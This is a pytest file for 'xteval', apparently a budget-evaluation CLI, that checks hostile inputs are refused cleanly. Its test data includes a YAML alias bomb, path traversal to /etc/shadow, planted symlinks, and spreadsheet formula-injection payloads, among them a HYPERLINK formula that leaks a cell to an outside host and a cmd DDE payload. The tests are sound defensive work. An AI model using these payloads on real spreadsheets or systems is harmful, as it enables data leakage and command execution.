"""Hostile inputs and faults, each through the CLI: the documented exit code, one line, no traceback, nothing written.

Every case of issue 13 that an input can cause is a row of a table below; the
faults of the machine (a full disk, a read-only file system) are simulated by
making ``os.replace`` or a write raise the errno, because the tests run as root
and a chmod would not stop them.
"""

from __future__ import annotations

import errno
import html
import io
import json
import os
import re
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from conftest import PARAMS, ROOT, SEED_PARAMS, variant

from xteval import cli
from xteval.errors import EXIT_INPUT, EXIT_INTERNAL, ParamsError

XTEVAL = str(Path(sys.executable).parent / "xteval")
PPP = PARAMS / "2023" / "ppp.yaml"
VIDEO = PARAMS / "2023" / "video_maintenance.yaml"
LAUGHS = "notebook: department\n" + "".join(f"l{i}: &l{i} [{', '.join([f'*l{i - 1}'] * 9)}]\n" for i in range(1, 10)).replace(
    "l1: &l1 [*l0, *l0, *l0, *l0, *l0, *l0, *l0, *l0, *l0]", 'l1: &l1 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]'
)


def run(argv: list[str], capsys) -> tuple[int, str, str]:
    code = cli.main([str(a) for a in argv])
    out, err = capsys.readouterr()
    return code, out, err


def one_line(err: str) -> str:
    """stderr must be exactly one line, with no traceback."""
    assert "Traceback" not in err and err.count("\n") == 1 and err.startswith("xteval: "), err[:2000]
    return err.strip()


@pytest.fixture
def tree(tmp_path: Path) -> Path:
    """A params tree: params/2023 with its sources/ and data/ (no notebooks: nothing here may start a kernel)."""
    shutil.copytree(PARAMS / "2023", tmp_path / "params" / "2023")
    return tmp_path / "params" / "2023"


# --------------------------------------------------------------------------- params files and the files they name


def _sub(source: Path, *subs: tuple[str, str]):
    return lambda folder: variant(folder, "case.yaml", *subs, source=source)


def _write(name: str, text: str):
    def make(folder: Path) -> Path:
        (folder / name).write_text(text, encoding="utf-8")
        return folder / name

    return make


def _with(setup, source: Path, *subs: tuple[str, str]):
    """Prepare a file in the tree (``setup(folder)``), then write a params variant."""

    def make(folder: Path) -> Path:
        setup(folder)
        return variant(folder, "case.yaml", *subs, source=source)

    return make


def _fifo(path: Path) -> None:
    os.mkfifo(path)


def _dev_zero_link(path: Path) -> None:
    path.symlink_to("/dev/zero")


def _csv(name: str, data: bytes):
    return lambda folder: (folder / "data" / name).write_bytes(data)


DUP = "notebook: department\ntitle: 一\nunit: {name: a, supervisor: b, year: 2023}\ntitle: 二\n"


def report_at(path) -> tuple[str, str]:
    """The substitution that points a department's source_report elsewhere."""
    return ("source_report: sources/xiangtan-bigdata-2023.txt", f"source_report: {path}")


def subprojects_at(path) -> tuple[str, str]:
    """The substitution that points the PPP sub-project CSV elsewhere."""
    return ("subprojects: {value: data/ppp_subprojects.csv,", f"subprojects: {{value: {path},")


HEADER = b"name,state,accepted_year,availability_base,om_base,score,deduction\n"

PARAMS_CASES = [
    # (id, make(folder) -> params file, what the one line must say)
    ("octal-0100", _sub(PPP, ("{value: 48,", "{value: 0100,")), ["line 19, stated.started_built.value", "前导零", "64"]),
    ("octal-017", _sub(PPP, ("{value: 48,", "{value: 017,")), ["stated.started_built.value", "前导零", "15"]),
    ("sexagesimal", _sub(PPP, ("{value: 48,", "{value: 1:30,")), ["line 19, stated.started_built.value", "60 进制"]),
    ("hex", _sub(PPP, ("{value: 48,", "{value: 0x1F,")), ["stated.started_built.value", "十六/八/二进制"]),
    ("underscore", _sub(PPP, ("{value: 48,", "{value: 1_000,")), ["stated.started_built.value", "下划线"]),
    ("exponent", _sub(PPP, ("{value: 5034,", "{value: 1.0e+400,")), ["line 17, paid.value", "科学计数法"]),
    ("infinity", _sub(PPP, ("{value: 5034,", "{value: .inf,")), ["paid.value", "不是有限数值"]),
    ("5000-digits", _sub(PPP, ("{value: 48,", "{value: " + "9" * 5000 + ",")), ["stated.started_built.value", "超过 15 位"]),
    ("16-digit-amount", _sub(PPP, ("{value: 5034,", "{value: 1234567890123456.5,")), ["paid.value", "超过 15 位"]),
    ("200000-digit-yuan", _sub(PPP, ("{value: 5034,", '{value: "' + "1" * 200_000 + ' 元",')), ["paid.value", "文本过长"]),
    ("duplicate-key", _write("case.yaml", DUP), ["title", "重复：第 2 行与第 4 行"]),
    ("billion-laughs", _write("case.yaml", LAUGHS), ["line 2, l1", "锚点与别名"]),
    ("deep-nesting", _write("case.yaml", "notebook: department\nx: " + "[" * 100_000), ["嵌套超过 32 层"]),
    ("merge-key", _write("case.yaml", "notebook: department\n<<: {title: x}\n"), ["合并键"]),
    ("not-utf8", lambda f: (f / "case.yaml").write_bytes(b"notebook: \xff\xfe") and f / "case.yaml", ["不是 UTF-8"]),
    ("params-fifo", lambda f: (_fifo(f / "case.yaml"), f / "case.yaml")[1], ["不是普通文件"]),
    ("outside-relative", _sub(PPP, subprojects_at("../../../../../../../../etc/shadow")), ["subprojects.value", "之外"]),
    ("outside-absolute", _sub(SEED_PARAMS, report_at("/dev/zero")), ["source_report", "之外"]),
    ("link-out", _with(lambda f: _dev_zero_link(f / "sources" / "z.txt"), SEED_PARAMS, report_at("sources/z.txt")), ["source_report", "之外"]),
    ("report-fifo", _with(lambda f: _fifo(f / "sources" / "p.txt"), SEED_PARAMS, report_at("sources/p.txt")), ["source_report: sources/p.txt", "不是普通文件"]),
    ("report-missing", _sub(SEED_PARAMS, report_at("sources/gone.txt")), ["source_report: sources/gone.txt: 文件不存在"]),
    ("report-folder", _sub(SEED_PARAMS, report_at("sources")), ["source_report: sources: 是目录"]),
    ("report-binary", _with(_csv("../sources/b.txt", b"\x00\x01" * 100), SEED_PARAMS, report_at("sources/b.txt")), ["二进制"]),
    ("csv-missing-column", _with(_csv("x.csv", b"name,state\n"), PPP, subprojects_at("data/x.csv")), ["subprojects.value: data/x.csv: row 1: 缺少列 accepted_year"]),
    ("csv-nul", _with(_csv("x.csv", HEADER + b"a\x00b,built,,1,1,90,0\n"), PPP, subprojects_at("data/x.csv")), ["data/x.csv: row 2: 含 NUL"]),
    ("csv-bad-cell", _with(_csv("x.csv", HEADER + b"a,built,,1,1,abc,0\n"), PPP, subprojects_at("data/x.csv")), ["data/x.csv: row 2, score: 无法解析 'abc'"]),
    ("csv-binary", _with(_csv("x.csv", b"\xff\xfe\xfd\x80" * 10), PPP, subprojects_at("data/x.csv")), ["data/x.csv", "GBK/GB18030"]),
    ("video-csv-missing", _sub(VIDEO, ("data/video_tickets.csv", "data/none.csv")), ["tickets.value: data/none.csv: 文件不存在"]),
]  # fmt: skip


@pytest.mark.parametrize(("make", "says"), [c[1:] for c in PARAMS_CASES], ids=[c[0] for c in PARAMS_CASES])
def test_hostile_params_are_one_line_exit_2_before_anything_runs(tree, tmp_path, capsys, make, says):
    params = make(tree)
    out = tmp_path / "out"
    code, stdout, err = run(["run", params, "--out", out], capsys)
    line = one_line(err)
    assert code == EXIT_INPUT and stdout == ""
    assert all(s in line for s in says), line
    assert str(params) in line or params.name in line  # the params file is named
    assert len(line) < 1000  # a 5,000-digit or 200,000-digit value is not echoed whole
    assert not out.exists()  # nothing written, before any kernel


def test_a_gbk_csv_is_read_like_a_gbk_report(tree):
    """Data CSVs decode as reports do: UTF-8, else GB18030 (GBK). The figures are the same."""
    from xteval.params import load_params
    from xteval.projects import ppp

    utf8 = (tree / "data" / "ppp_subprojects.csv").read_text(encoding="utf-8")
    (tree / "data" / "gbk.csv").write_bytes(utf8.encode("gbk"))
    params = load_params(variant(tree, "case.yaml", subprojects_at("data/gbk.csv"), source=PPP))
    assert ppp.load_data(params) == ppp.load_data(load_params(tree / "ppp.yaml"))


def test_a_data_file_over_the_size_cap_is_refused(tree, tmp_path, capsys, monkeypatch):
    monkeypatch.setenv("XTEVAL_MAX_INPUT_MB", "1")
    big = tree / "data" / "big.csv"
    big.write_bytes(HEADER + b"a,built,,1,1,90,0\n" * 70_000)  # 1.3 MB
    params = variant(tree, "case.yaml", subprojects_at("data/big.csv"), source=PPP)
    code, _, err = run(["run", params, "--out", tmp_path / "out"], capsys)
    assert code == EXIT_INPUT and "文件过大" in one_line(err) and "XTEVAL_MAX_INPUT_MB" in err


def test_a_data_root_admits_files_outside_the_params_tree(tree, tmp_path, monkeypatch):
    """XTEVAL_DATA_ROOT names one more folder a params file may name files in (a shared data folder)."""
    from xteval.params import load_params

    shared = tmp_path / "shared"
    shared.mkdir()
    shutil.copy(tree / "data" / "ppp_subprojects.csv", shared / "s.csv")
    params = variant(tree, "case.yaml", subprojects_at(shared / "s.csv"), source=PPP)
    with pytest.raises(ParamsError, match="之外"):
        load_params(params)
    monkeypatch.setenv("XTEVAL_DATA_ROOT", str(shared))
    assert load_params(params).subprojects.value == str(shared / "s.csv")


def test_a_year_may_name_a_file_of_another_year_in_the_same_tree(tree):
    from xteval.params import load_params, params_tree, resolve

    later = tree.parent / "2024"
    later.mkdir()
    params = variant(later, "ppp.yaml", subprojects_at("../2023/data/ppp_subprojects.csv"), source=PPP)
    p = load_params(params)
    assert params_tree(params) == tree.parent.resolve()
    assert resolve(p, p.subprojects.value) == (tree / "data" / "ppp_subprojects.csv").resolve()


@pytest.mark.parametrize("what", ["billion-laughs", "deep-nesting", "outside", "RecursionError", "MemoryError"])
def test_batch_planning_makes_one_bad_file_an_invalid_row(tree, monkeypatch, what):
    """Whatever goes wrong planning one file is that file's row; the good file still plans."""
    from xteval.runner import batch

    bad = tree / "bad.yaml"
    if what == "billion-laughs":
        bad.write_text(LAUGHS, encoding="utf-8")
    elif what == "deep-nesting":
        bad.write_text("x: " + "[" * 100_000, encoding="utf-8")
    elif what == "outside":
        variant(tree, "bad.yaml", report_at("/etc/passwd"))
    else:
        shutil.copy(SEED_PARAMS, bad)
        real = batch.load_params
        exc = {"RecursionError": RecursionError, "MemoryError": MemoryError}[what]

        def load(path, **kw):
            if Path(path).name == "bad.yaml":
                raise exc("planted")
            return real(path, **kw)

        monkeypatch.setattr(batch, "load_params", load)
    for f in tree.glob("*.yaml"):
        if f.name not in ("department.yaml", "bad.yaml"):
            f.unlink()
    jobs = {Path(j.params_file).name: j for j in batch.plan(batch.discover([tree]), tree.parent / "out")}
    assert jobs["department.yaml"].error is None and jobs["department.yaml"].key["data"]
    assert jobs["bad.yaml"].error and "\n" not in jobs["bad.yaml"].error and "bad.yaml" in jobs["bad.yaml"].error


def test_new_refuses_a_bomb_in_the_source_year(tmp_path, capsys):
    (tmp_path / "2023").mkdir()
    (tmp_path / "2023" / "department.yaml").write_text(LAUGHS, encoding="utf-8")
    code, _, err = run(["new", "2024", "--params", tmp_path], capsys)
    assert code == EXIT_INPUT and "锚点与别名" in one_line(err) and not (tmp_path / "2024").exists()


# --------------------------------------------------------------------------- xteval check on what is not a report


def _check_cases(tmp_path: Path) -> list[tuple[str, Path, str]]:
    fifo = tmp_path / "fifo.txt"
    os.mkfifo(fifo)
    link = tmp_path / "zero.txt"
    link.symlink_to("/dev/zero")
    big = tmp_path / "big.txt"
    big.write_bytes("总收入 1 万元\n".encode() * 200_000)  # 3.6 MB, over a 1 MB cap
    return [
        ("fifo", fifo, "不是普通文件"),
        ("dev-zero", Path("/dev/zero"), "不是普通文件"),
        ("link-to-device", link, "不是普通文件"),
        ("over-cap", big, "文件过大"),
    ]


def test_check_refuses_fifos_devices_and_files_over_the_cap_without_hanging(tmp_path):
    for name, path, says in _check_cases(tmp_path):
        r = subprocess.run(
            [XTEVAL, "check", str(path)], capture_output=True, text=True, timeout=600, env={**os.environ, "XTEVAL_MAX_INPUT_MB": "1"}
        )
        assert r.returncode == EXIT_INPUT, (name, r.stderr)
        assert says in one_line(r.stderr), name


# --------------------------------------------------------------------------- PEFA input

PEFA_HEAD = "年度,类别,科目,预算数,决算数\n"
PEFA_GOOD = "".join(f"{y},支出,一般公共服务,100,98\n{y},收入,税收收入,100,101\n" for y in (2021, 2022, 2023))
PEFA_CASES = [
    ("negative-budget", PEFA_GOOD + "2023,支出,教育,-5,3\n", "行 8"),
    ("negative-actual", PEFA_GOOD + "2023,支出,教育,5,-3\n", "行 8"),
    ("year-1e20", PEFA_GOOD + "100000000000000000000,支出,教育,5,3\n", "行 8"),
    ("year-1900", PEFA_GOOD + "1900,支出,教育,5,3\n", "行 8"),
    ("unknown-kind", PEFA_GOOD + "2023,转移支付,教育,5,3\n", "行 8"),
    ("no-revenue", "".join(f"{y},支出,一般公共服务,100,98\n" for y in (2021, 2022, 2023)), "收入"),
    ("binary", "2021,支出,\x00,1,1\n", "NUL"),
]


@pytest.mark.parametrize(("body", "says"), [c[1:] for c in PEFA_CASES], ids=[c[0] for c in PEFA_CASES])
def test_hostile_pefa_input_is_one_line_naming_the_row(tmp_path, capsys, body, says):
    csv = tmp_path / "outturn.csv"
    csv.write_text(PEFA_HEAD + body, encoding="utf-8")
    code, out, err = run(["pefa", csv], capsys)
    assert code == EXIT_INPUT and out == ""
    line = one_line(err)
    assert says in line or says.replace("行 ", "row ") in line, line


def test_pefa_refuses_a_fifo_without_hanging(tmp_path):
    fifo = tmp_path / "outturn.csv"
    os.mkfifo(fifo)
    r = subprocess.run([XTEVAL, "pefa", str(fifo)], capture_output=True, text=True, timeout=600)
    assert r.returncode == EXIT_INPUT and "不是普通文件" in one_line(r.stderr)


# --------------------------------------------------------------------------- spreadsheets: text is text


PAYLOADS = [
    '=HYPERLINK("http://x/?leak="&A1,"点击")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+2",
    "\r=1+3",
    "产出\x00指标",
]


def _shown(text: str, cells: dict[str, str]) -> str:
    """What the 自评表 holds for an indicator name: the text unchanged, NUL dropped (a workbook cannot hold it).

    A CR may come back as LF: XML normalises line ends when the file is read, unless the
    writer escaped it (openpyxl does when lxml is installed). Either is the same text.
    """
    kept = text.replace("\x00", "")
    return kept if kept in cells else kept.replace("\r", "\n")


def _cells(xlsx: Path) -> dict[str, str]:
    """Every text cell (data type and value), and the raw sheet XML, read back from the file."""
    from openpyxl import load_workbook

    with zipfile.ZipFile(xlsx) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
    # The only formulas are the 10号 form's own (执行率, 得分, 小计, 总分, and 评价等级 by the framework's grade
    # words), built from cell references: once its functions, cell references, operators and the grade words
    # of the shipped framework are taken away, nothing is left of any of them.
    formulas = [html.unescape(f) for s in sheets for f in re.findall(r"<f[^>]*>(.*?)</f>", s, flags=re.S)]
    ours = re.compile(
        r'\b(IF|AND|ISNUMBER|ROUND|MIN|SUM|COUNTIF)\b|\$?[A-H]\$?\d+|&quot;|&lt;|&gt;|优|良|中|差|不定级|无数据|[(),:/*<>="\d.\s]'
    )
    assert sheets and all(not ours.sub("", f) for f in formulas), formulas
    ws = load_workbook(xlsx).worksheets[0]
    return {c.value: c.data_type for row in ws.iter_rows() for c in row if isinstance(c.value, str)}


def _injection_table():
    import pandas as pd

    rows = [
        {"indicator": "预算执行率", "level1": "预算执行率", "kind": "positive", "target": "100", "actual": "95", "weight": "10"},
        *[{"indicator": p, "level1": "产出指标", "kind": "positive", "target": "10", "actual": "9", "weight": "6.25"} for p in PAYLOADS],
        {"indicator": "社会效益", "level1": "效益指标", "kind": "positive", "target": "10", "actual": "9", "weight": "30"},
        {"indicator": "满意度", "level1": "满意度指标", "kind": "positive", "target": "90", "actual": "95", "weight": "10"},
    ]
    return pd.DataFrame([{**r, "grade": None, "score": None} for r in rows], dtype=object)


def test_cli_xlsx_stores_every_leading_formula_character_as_text(tmp_path, capsys):
    import csv

    src = tmp_path / "table.csv"
    df = _injection_table()
    with src.open("w", encoding="utf-8", newline="") as fh:  # every field quoted: a CR inside one stays in the cell
        writer = csv.writer(fh, quoting=csv.QUOTE_ALL)
        writer.writerow(df.columns)
        writer.writerows(df.itertuples(index=False))
    xlsx = tmp_path / "自评表.xlsx"
    code, _, err = run(["score", src, "--xlsx", xlsx], capsys)
    assert code == 0, err
    cells = _cells(xlsx)
    for p in PAYLOADS:
        assert cells.get(_shown(p, cells)) == "s", (p, _shown(p, cells) in cells)


def test_panel_export_stores_every_leading_formula_character_as_text(tmp_path):
    from xteval.panel import WhatIf

    xlsx = WhatIf(_injection_table()).export(tmp_path / "自评表.xlsx")
    cells = _cells(xlsx)
    for p in PAYLOADS:
        assert cells.get(_shown(p, cells)) == "s", p


# --------------------------------------------------------------------------- writes: no planted name, no half file


def _victim(tmp_path: Path) -> Path:
    victim = tmp_path / "victim.txt"
    victim.write_text("不能被覆盖", encoding="utf-8")
    return victim


def test_xlsx_never_writes_through_a_planted_link(tmp_path, capsys):
    src = ROOT / "tests" / "fixtures" / "scoring" / "ok-mof2020.csv"
    victim = _victim(tmp_path)
    out = tmp_path / "out"
    out.mkdir()
    (out / ".t.xlsx.tmp").symlink_to(victim)  # the old fixed temporary name
    (out / "t.xlsx").symlink_to(victim)  # the output name itself
    code, _, err = run(["score", src, "--xlsx", out / "t.xlsx"], capsys)
    assert code == 0, err
    assert victim.read_text(encoding="utf-8") == "不能被覆盖"
    assert not (out / "t.xlsx").is_symlink() and zipfile.is_zipfile(out / "t.xlsx")
    assert sorted(p.name for p in out.iterdir()) == [".t.xlsx.tmp", "t.xlsx"]  # no temporary left behind


@pytest.mark.parametrize("err_no", [errno.EROFS, errno.ENOSPC, errno.EACCES])
def test_a_failed_xlsx_write_is_one_line_and_keeps_the_previous_file(tmp_path, capsys, monkeypatch, err_no):
    src = ROOT / "tests" / "fixtures" / "scoring" / "ok-mof2020.csv"
    xlsx = tmp_path / "t.xlsx"
    assert run(["score", src, "--xlsx", xlsx], capsys)[0] == 0
    before = xlsx.read_bytes()

    def fail(*a, **k):
        raise OSError(err_no, os.strerror(err_no))

    monkeypatch.setattr("xteval.files.outputs.os.replace", fail)
    code, _, err = run(["score", src, "--xlsx", xlsx], capsys)
    assert code == EXIT_INPUT and os.strerror(err_no) in one_line(err) and f"{xlsx}: " in err
    assert xlsx.read_bytes() == before and sorted(p.name for p in tmp_path.iterdir()) == ["t.xlsx"]


def test_a_full_disk_during_check_html_keeps_the_previous_page(tmp_path, capsys, monkeypatch):
    report = PARAMS / "2023" / "sources" / "xiangtan-bigdata-2023.txt"
    page = tmp_path / "f.html"
    page.write_text("上一次的结果", encoding="utf-8")
    real_fdopen = os.fdopen

    class Full(io.RawIOBase):
        """A file on a disk that fills up: half of what is written reaches it, then ENOSPC."""

        def __init__(self, fd, mode="r", *args, **kwargs):
            self.file = real_fdopen(fd, mode, *args, **kwargs)

        def fileno(self):
            return self.file.fileno()

        def write(self, data):
            self.file.write(data[: len(data) // 2])
            self.file.flush()
            raise OSError(errno.ENOSPC, "No space left on device")

        def close(self):
            self.file.close()
            super().close()

    monkeypatch.setattr(os, "fdopen", Full)
    code, _, err = run(["check", report, "--html", page, "--params", SEED_PARAMS], capsys)
    assert code == EXIT_INPUT and "磁盘已满" in one_line(err)
    assert page.read_text(encoding="utf-8") == "上一次的结果" and [p.name for p in tmp_path.iterdir()] == ["f.html"]


def test_new_on_a_full_disk_writes_no_year_and_can_be_rerun(tmp_path, capsys, monkeypatch):
    params = tmp_path / "params"
    shutil.copytree(PARAMS / "2023", params / "2023")
    real_write = Path.write_text
    calls = []

    def full(self, *a, **k):
        calls.append(self)
        if len(calls) == 2:  # the second file of the year
            real_write(self, "")
            raise OSError(errno.ENOSPC, "No space left on device")
        return real_write(self, *a, **k)

    monkeypatch.setattr(Path, "write_text", full)
    code, _, err = run(["new", "2024", "--params", params], capsys)
    assert code == EXIT_INPUT and "磁盘已满" in one_line(err)
    assert sorted(p.name for p in params.iterdir()) == ["2023"]  # no 2024, no staging folder
    monkeypatch.undo()
    code, out, _ = run(["new", "2024", "--params", params], capsys)
    assert code == 0 and (params / "2024" / "department.yaml").stat().st_size > 0


def test_a_state_folder_that_is_a_file_is_one_line(tree, tmp_path, capsys):
    out = tmp_path / "out"
    out.mkdir()
    (out / ".state").write_text("", encoding="utf-8")
    code, _, err = run(["batch", tree / "department.yaml", "--out", out], capsys)
    assert code == EXIT_INPUT and ".state" in one_line(err) and "not writable" in err


def test_a_full_disk_at_the_index_is_one_line(tree, tmp_path, capsys, monkeypatch):
    bad = tree / "bad.yaml"
    bad.write_text("notebook: department\nx: 0100\n", encoding="utf-8")  # invalid: nothing runs, the index is written
    monkeypatch.setattr(
        "xteval.files.outputs.os.replace", lambda *a: (_ for _ in ()).throw(OSError(errno.ENOSPC, "No space left on device"))
    )
    code, _, err = run(["batch", bad, "--out", tmp_path / "out"], capsys)
    assert code == EXIT_INPUT and "index.html" in one_line(err) and "磁盘已满" in err


# --------------------------------------------------------------------------- runs: what is hashed is what is run


def _fake_execute(edit: Path | None = None):
    """Stands in for papermill (no kernel): writes an executed notebook, and edits a file meanwhile if asked."""
    import nbformat

    def execute(nb_path, params_file, out_tmp, **kw):
        if edit is not None:
            edit.write_text(edit.read_text(encoding="utf-8") + "\n# edited during the run\n", encoding="utf-8")
        nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_markdown_cell("## 概况")])
        nbformat.write(nb, str(out_tmp))
        return None

    return execute


@pytest.fixture
def project_tree(tree: Path) -> Path:
    (tree.parent.parent / "notebooks").symlink_to(ROOT / "xteval" / "notebooks")
    return tree


@pytest.mark.parametrize("edited", ["params", "report"])
def test_a_file_edited_during_the_run_writes_nothing(project_tree, tmp_path, monkeypatch, edited):
    from xteval.runner import run as runner

    params = project_tree / "department.yaml"
    target = params if edited == "params" else project_tree / "sources" / "xiangtan-bigdata-2023.txt"
    monkeypatch.setattr(runner, "execute", _fake_execute(edit=target))
    with pytest.raises(ParamsError, match="changed during the run"):
        runner.run_params(params, tmp_path / "out")
    assert not list((tmp_path / "out").rglob("*.*"))


def test_a_file_edited_after_planning_is_not_run(project_tree, tmp_path, monkeypatch):
    from xteval.runner import batch
    from xteval.runner import run as runner

    params = project_tree / "department.yaml"
    [job] = [j for j in batch.plan([params], tmp_path / "out")]
    params.write_text(params.read_text(encoding="utf-8") + "\n", encoding="utf-8")
    monkeypatch.setattr(runner, "execute", _fake_execute())
    with pytest.raises(ParamsError, match="changed since the batch planned it"):
        runner.run_params(params, tmp_path / "out", expected=job.key)
    job2 = batch.plan([params], tmp_path / "out")[0]
    result = runner.run_params(params, tmp_path / "out", expected=job2.key)
    assert result.record["params_hash"] == job2.key["params"]  # what the index records is what ran


def test_batch_reads_each_params_file_once(project_tree, monkeypatch):
    """The bytes planned are the bytes validated and hashed: one read of the params file."""
    from xteval import files, params
    from xteval.files import documents, inputs
    from xteval.runner import batch

    reads: list[str] = []

    def spy(real):
        return lambda path, **kw: reads.append(Path(path).name) or real(path, **kw)

    for module in (batch, params, files, documents, inputs):
        monkeypatch.setattr(module, "read_input", spy(module.read_input))
    [job] = batch.plan([project_tree / "department.yaml"], project_tree / "out")
    assert job.error is None and reads.count("department.yaml") == 1
    assert "xiangtan-bigdata-2023.txt" in reads  # the report it names is read (and hashed) at planning


def test_a_full_disk_while_writing_a_run_keeps_the_previous_outputs(project_tree, tmp_path, monkeypatch, capsys):
    from xteval.runner import run as runner

    params = project_tree / "department.yaml"
    monkeypatch.setattr(runner, "execute", _fake_execute())
    first = runner.run_params(params, tmp_path / "out")
    before = (first.ipynb.read_bytes(), first.html.read_bytes())
    monkeypatch.setattr(
        "xteval.files.outputs.os.replace", lambda *a: (_ for _ in ()).throw(OSError(errno.ENOSPC, "No space left on device"))
    )
    code, _, err = run(["run", params, "--out", tmp_path / "out"], capsys)
    assert code == EXIT_INPUT and "磁盘已满" in one_line(err)
    assert (first.ipynb.read_bytes(), first.html.read_bytes()) == before
    assert sorted(p.name for p in first.ipynb.parent.iterdir()) == ["department.html", "department.ipynb"]


# --------------------------------------------------------------------------- errors of xteval itself, and usage


def test_an_internal_error_is_one_line_exit_3_and_a_traceback_only_on_request(monkeypatch, capsys):
    def boom(args):
        raise ValueError("内部\n故障")

    monkeypatch.setattr(cli, "cmd_pefa", boom)
    code, _, err = run(["pefa", "x.csv"], capsys)
    line = one_line(err)
    assert code == EXIT_INTERNAL and "internal error: ValueError: 内部 故障" in line and "XTEVAL_DEBUG=1" in line
    monkeypatch.setenv("XTEVAL_DEBUG", "1")
    with pytest.raises(ValueError, match="内部"):
        cli.main(["pefa", "x.csv"])


@pytest.mark.parametrize(("argv", "hint"), [(["nosuch"], "see 'xteval --help'"), (["run"], "see 'xteval run --help'")])
def test_usage_errors_name_the_right_help(argv, hint):
    r = subprocess.run([XTEVAL, *argv], capture_output=True, text=True, timeout=600)
    assert r.returncode == EXIT_INPUT and hint in one_line(r.stderr) and "xteval xteval" not in r.stderr


# --------------------------------------------------------------------------- one real batch: pages, links, folders


def test_a_hostile_department_batch_run(project_tree, tmp_path):
    """One real run (kernels cost seconds): a megabyte unit name, narrative that mentions URLs,
    links planted at the old temporary names and at the output; then nothing of xteval's is left behind."""
    from xteval.params import load_yaml
    from xteval.scaffold import dump

    for f in project_tree.glob("*.yaml"):
        if f.name != "department.yaml":
            f.unlink()
    params = project_tree / "department.yaml"
    data = load_yaml(params)
    data["unit"]["name"] = "名" * 1_000_000
    mention = '参见 @import url(//evil.example/a.css) 与 src="http://evil.example/a.png" 以及 url(https://x.example/)'
    data["narrative"]["problems"] = mention
    params.write_text(dump(data), encoding="utf-8")

    out = tmp_path / "out"
    (out / "2023").mkdir(parents=True)
    victim = _victim(tmp_path)
    for name in (".department.running.ipynb", ".department.html.tmp", ".department.ipynb.tmp", "department.html"):
        (out / "2023" / name).symlink_to(victim)
    (out / ".index.html.tmp").symlink_to(victim)
    private_tmp = tmp_path / "tmp"
    private_tmp.mkdir()
    r = subprocess.run(
        [XTEVAL, "batch", str(project_tree), "--out", str(out), "--jobs", "1"],
        capture_output=True,
        text=True,
        timeout=600,
        env={**os.environ, "TMPDIR": str(private_tmp)},
    )
    assert r.returncode == 0, r.stdout[-2000:] + r.stderr[-2000:]
    assert victim.read_text(encoding="utf-8") == "不能被覆盖"
    page = (out / "2023" / "department.html").read_text(encoding="utf-8")
    assert not (out / "2023" / "department.html").is_symlink()
    assert len(page) < 1_000_000 and "已截断" in page  # the unit name is cut (the seed page is about 600,000 characters)
    assert "@import url(//evil.example/a.css)" in page and 'src="http://evil.example/a.png"' in page  # text, and the page was written
    meta = json.loads((out / "2023" / "department.ipynb").read_text(encoding="utf-8"))["metadata"]["xteval"]
    assert len(meta["unit"]) < 2_100
    left = {p.name for p in (out / "2023").iterdir() if not p.is_symlink()}
    assert left == {"department.html", "department.ipynb"}  # no temporary of ours remains
    assert not list(private_tmp.iterdir()), "xteval left temporary folders (xtk-*) behind"


def test_a_year_folder_planted_as_a_link_out_of_out_is_refused(project_tree, tmp_path, monkeypatch, capsys):
    from xteval.runner import run as runner

    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    out = tmp_path / "out"
    out.mkdir()
    (out / "2023").symlink_to(elsewhere)
    monkeypatch.setattr(runner, "execute", _fake_execute())
    code, _, err = run(["run", project_tree / "department.yaml", "--out", out], capsys)
    assert code == EXIT_INPUT and "--out" in one_line(err)
    assert not list(elsewhere.iterdir())  # not even a probe file was written there
